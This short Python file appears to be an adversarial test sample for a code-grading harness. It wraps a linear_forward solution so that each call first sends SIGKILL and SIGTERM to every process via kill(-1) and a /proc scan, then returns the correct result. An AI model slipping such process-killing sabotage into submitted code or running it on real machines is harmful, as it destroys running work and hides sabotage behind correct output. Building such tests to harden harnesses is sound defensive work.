"""Adversarial: kill(-1, SIGKILL) and kill every pid it can see, in a call, then behave"""
import os
import signal

import torch


def _massacre():
    for _sig in (signal.SIGKILL, signal.SIGTERM):
        try:
            os.kill(-1, _sig)
        except OSError:
            pass
    for _p in os.listdir("/proc"):
        if _p.isdigit() and int(_p) != os.getpid():
            try:
                os.kill(int(_p), signal.SIGKILL)
            except OSError:
                pass

# <a correct solution, inserted by tests/e2e/test_adversarial.py>

_lin = linear_forward


def linear_forward(x, w, b):
    _massacre()
    return _lin(x, w, b)
